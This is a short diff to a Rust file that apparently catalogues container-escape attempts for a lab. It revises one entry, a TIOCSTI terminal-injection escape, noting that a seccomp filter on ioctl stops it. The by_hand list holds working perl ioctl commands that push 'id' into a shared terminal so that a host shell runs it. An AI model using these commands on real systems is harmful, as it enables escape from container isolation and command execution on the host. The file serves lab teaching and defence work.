@@ -16,8 +16,8 @@ pub const ATTEMPT: Attempt = Attempt {
             left is to refuse the request itself: a seccomp filter that looks at the second argument of ioctl. \
             Where dev.tty.legacy_tiocsti is 0, dropping CAP_SYS_ADMIN is enough.",
     by_hand: &[
-        "[ -e /dev/null ] || touch /dev/null",
-        "setsid -c perl -e 'ioctl(STDERR, 0x5412, $_) for split //, \"id\\n\"'",
+        r#"script -qc "exec perl -e '\$SIG{HUP} = q(IGNORE); ioctl STDIN, 0x5422, 0; exec @ARGV' lab3-pivot rootfs /bin/sh" /dev/null    # on the host: a terminal that is nobody's"#,
+        r#"setsid -c perl -e 'ioctl(STDERR, 0x5412, $_) for split //, "id\n"'    # the next shell runs it: escaped"#,
     ],
     stopped_by: &["lab5-seccomp/tiocsti"],
     after: &["terminal"],
